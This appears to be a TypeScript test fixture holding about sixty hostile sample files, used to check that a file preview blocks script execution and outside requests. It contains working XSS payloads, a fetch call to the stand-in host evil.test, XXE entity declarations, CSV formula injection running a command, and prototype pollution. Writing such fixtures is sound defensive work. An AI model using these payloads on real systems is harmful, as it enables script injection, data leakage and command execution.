// Sixty hostile files: each runs something, or contacts another site, if a preview lets it.

/** The script that reports that it ran. */
const RUN = "top.pwned?.('script');parent.pwned?.('script');window.__pwned=1;fetch('https://evil.test/fetch')";
const AWAY = 'https://evil.test';

const HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><script>${RUN}</script>`,
  `<link rel="stylesheet" href="${AWAY}/style.css"><link rel="preconnect" href="${AWAY}">`,
  `<link rel="prefetch" href="${AWAY}/prefetch"><link rel="dns-prefetch" href="//evil.test">`,
  `<link rel="icon" href="${AWAY}/icon.png"><link rel="manifest" href="${AWAY}/manifest.json">`,
  `<base href="${AWAY}/"><img src="base.png"><a href="page" autofocus>x</a>`,
  `<style>@import url(${AWAY}/import.css);body{background:url(${AWAY}/background.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}/font.woff2)}body{font-family:x}</style>text`,
  `<div style="background:url(${AWAY}/inline.png)">text</div>`,
  `<form action="${AWAY}/form" id=f><input name=a></form><script>f.submit()</script>`,
  `<form action="${AWAY}/form"><input autofocus onfocus="${RUN}"><button autofocus>go</button></form>`,
  `<object data="${AWAY}/object.swf"></object><embed src="${AWAY}/embed.swf">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<video src="${AWAY}/film.mp4" autoplay onerror="${RUN}"></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
  `<img srcset="${AWAY}/1.png 1x, ${AWAY}/2.png 2x"><picture><source srcset="${AWAY}/p.png"><img></picture>`,
  `<a href="javascript:${RUN}" ping="${AWAY}/ping">x</a><details open ontoggle="${RUN}">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<template><script>${RUN}</script></template><noscript><img src="${AWAY}/noscript.png"></noscript>`,
  `<script type="module" src="${AWAY}/module.js"></script><script src="${AWAY}/plain.js"></script>`,
  `<table background="${AWAY}/table.png"><tr><td>x</table><input type=image src="${AWAY}/input.png">`,
  `--><script>${RUN}</script><!-- \u0000<scr\u0000ipt>${RUN}</script>`,
];

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
const SVG: readonly string[] = [
  svg(`<script>${RUN}</script>`),
  svg(`<script href="${AWAY}/svg.js"/>`),
  svg(`<image href="${AWAY}/image.png" width="9" height="9"/>`),
  svg(`<use xlink:href="${AWAY}/use.svg#a"/>`),
  svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><iframe src="${AWAY}/f"/></body></foreignObject>`,
  ),
  svg(`<a xlink:href="javascript:${RUN}"><rect width="9" height="9"/></a>`),
  svg(`<set attributeName="onmouseover" to="${RUN}"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/>`),
  svg(`<style>@import url(${AWAY}/svg.css);rect{fill:url(${AWAY}/fill.svg#x)}</style><rect width="9" height="9"/>`),
  `<?xml-stylesheet href="${AWAY}/sheet.css"?>${svg('<rect width="9" height="9"/>')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${AWAY}/entity">]>${svg('<text y="9">&x;</text>')}`,
  svg(`<rect width="9" height="9" onload="${RUN}" onclick="${RUN}"/>`),
];

const XML: readonly string[] = [
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${AWAY}/sheet.xsl"?><a>x</a>`,
  `<!DOCTYPE a [<!ENTITY x SYSTEM "${AWAY}/entity">]><a>&x;</a>`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `<a xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="${AWAY}/x.png" onerror="${RUN}"/></a>`,
];

const MARKDOWN: readonly string[] = [
  `# a\n\n<script>${RUN}</script>`,
  `![x](${AWAY}/picture.png) ![y][z]\n\n[z]: ${AWAY}/reference.png`,
  `[x](javascript:${RUN}) [y](data:text/html,<script>${RUN}</script>) [z](vbscript:x)`,
  `<img src=x onerror="${RUN}"> <iframe src="${AWAY}/frame"></iframe>`,
  `<javascript:${encodeURI(RUN)}> ${AWAY}/autolink`,
  `[x]: <javascript:${encodeURI(RUN)}>\n\n[x]`,
  `| a |\n|---|\n| <svg onload="${RUN}"> |`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\`\n\n<style>@import url(${AWAY}/md.css)</style>`,
  `[^1]: <img src=x onerror="${RUN}">\n\ntext[^1] <a href="${AWAY}" ping="${AWAY}/ping">a</a>`,
];

const OTHERS: readonly (readonly [name: string, text: string])[] = [
  ['script.js', `${RUN}; import('${AWAY}/import.js')`],
  ['closing.js', `</pre></script><script>${RUN}</script>`],
  [
    'style.css',
    `@import url(${AWAY}/style.css); body{background:url(${AWAY}/css.png)} </style><script>${RUN}</script>`,
  ],
  ['object.json', JSON.stringify({ __proto__: { pwned: 1 }, a: `</script><img src=x onerror="${RUN}">` })],
  ['text.txt', `<script>${RUN}</script><img src=x onerror="${RUN}">`],
  ['cells.csv', `=HYPERLINK("${AWAY}/csv"),<img src=x onerror="${RUN}">\n=cmd|'/c calc'!A1,<script>${RUN}</script>`],
  ['page.htm', `<script>${RUN}</script><img src="${AWAY}/htm.png">`],
  [
    'letter.eml',
    `Subject: x\nContent-Type: text/html\n\n<img src="${AWAY}/mail.png" onerror="${RUN}"><script>${RUN}</script>`,
  ],
];

const named = (ending: string, texts: readonly string[]) =>
  texts.map((text, n) => [`${ending}-${String(n + 1).padStart(2, '0')}.${ending}`, text] as const);

export const HOSTILE_PAGES: readonly (readonly [name: string, text: string])[] = [
  ...named('html', HTML),
  ...named('svg', SVG),
  ...named('xml', XML),
  ...named('md', MARKDOWN),
  ...OTHERS,
];
